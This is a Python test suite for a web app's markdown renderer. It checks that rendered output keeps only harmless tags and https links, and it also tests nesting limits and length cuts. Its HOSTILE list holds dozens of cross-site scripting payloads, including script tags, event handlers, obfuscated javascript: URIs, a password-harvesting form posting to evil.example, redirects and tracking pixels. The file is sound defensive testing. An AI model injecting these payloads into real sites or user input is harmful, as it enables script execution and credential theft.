"""Hostile markdown: whatever is written, no element or attribute comes out that could do anything."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from swarm.web.markdown import MAX_RENDERED_BYTES, InlineMarkdown, render_block

HARMLESS = {
    "a", "blockquote", "br", "code", "em", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "strong",
    "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a onclick=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example>",
    "<base href=https://evil.example>",
    "<style>body{display:none}</style>",
    "<div style=position:fixed id=main class=button hx-get=/ hx-trigger=load>x</div>",
    "<details open ontoggle=alert(1)>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/sign-out/)",
    "[x](../admin/)",
    "[x](#main)",
    "[x](mailto:a@b.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example" onmouseover="alert(1))',
    '[x](https://ok.example/"><script>alert(1)</script>)',
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/pixel.png)',
    "![![x](https://evil.example/1.png)](https://evil.example/2.png)",
    "[![x](https://evil.example/1.png)](https://ok.example)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "- <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\0<script\0>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
]


class Elements(HTMLParser):
    """The tags and attributes that a browser would see."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("declaration", {}))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in HARMLESS
        if tag == "a":
            assert (attributes.pop("href") or "").lower().startswith(("http://", "https://"))
            assert attributes.pop("rel") == "noopener noreferrer nofollow"
            attributes.pop("title", None)
        if tag == "ol":
            attributes.pop("start", None)
        assert attributes == {}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless(text: str) -> None:
    assert_harmless(render_block(text)[0])
    assert_harmless(render_block(f"Before {text} after\n\n{text}")[0])
    assert_harmless(InlineMarkdown().render(text))


PIECES = [*HOSTILE, "[", "](", ")", "<", ">", "`", "\n", "*", "![", "|", '"', "x"]


@given(st.lists(st.sampled_from(PIECES), max_size=12))
def test_hostile_texts_put_together_stay_harmless(texts: list[str]) -> None:
    assert_harmless(render_block("".join(texts))[0])
    assert_harmless(InlineMarkdown().render("".join(texts)))


@pytest.mark.parametrize(
    "text",
    [">" * 30_000, "- " * 30_000, "[" * 60_000, "*a_ " * 16_000, "".join(" " * n + "- a\n" for n in range(300))],
    ids=["quotes", "lists", "brackets", "emphasis", "indents"],
)
def test_huge_nesting_is_flattened(text: str) -> None:
    html, _ = render_block(text)
    assert_harmless(html)
    assert html.count("<blockquote") + html.count("<ul") < 100
    assert_harmless(InlineMarkdown().render(text))


def test_what_people_write_is_rendered() -> None:
    html, is_cut = render_block(
        "# Title\n\nSome `code`, *words* and [a link](https://ok.example/?a=1&b=2).\n\n3. Three\n"
    )
    assert html == (
        '<h3>Title</h3>\n<p>Some <code>code</code>, <em>words</em> and <a href="https://ok.example/?a=1&amp;b=2" '
        'rel="noopener noreferrer nofollow">a link</a>.</p>\n<ol start="3">\n<li>Three</li>\n</ol>\n'
    )
    assert not is_cut


def test_an_image_is_named_and_not_loaded() -> None:
    assert render_block("![a cat](https://evil.example/cat.png)")[0] == "<p><em>[image: a cat]</em></p>\n"


def test_headings_stay_below_those_of_the_page() -> None:
    text = "".join(f"{'#' * level} x\n" for level in range(1, 7))
    assert [tag for tag, _ in Elements(render_block(text)[0]).found] == ["h3", "h4", "h5", "h6", "h6", "h6"]


@pytest.mark.parametrize(("size", "is_cut"), [(MAX_RENDERED_BYTES, False), (MAX_RENDERED_BYTES + 1, True)])
def test_a_long_text_is_cut(size: int, is_cut: bool) -> None:
    html, was_cut = render_block("x" * size)
    assert was_cut is is_cut
    assert html.count("x") == MAX_RENDERED_BYTES


def test_a_cut_inside_a_character_leaves_that_out() -> None:
    html, is_cut = render_block("x" + "é" * MAX_RENDERED_BYTES)
    assert is_cut
    assert html == f"<p>x{'é' * (MAX_RENDERED_BYTES // 2 - 1)}</p>\n"


def test_short_texts_beyond_the_limit_are_shown_as_written() -> None:
    markdown = InlineMarkdown()
    rendered = [str(markdown.render("**a** <b>")) for _ in range(2000)]
    assert set(rendered) == {"<strong>a</strong> &lt;b&gt;", "**a** &lt;b&gt;"}
    assert rendered == sorted(rendered, key=lambda html: html.startswith("**"))
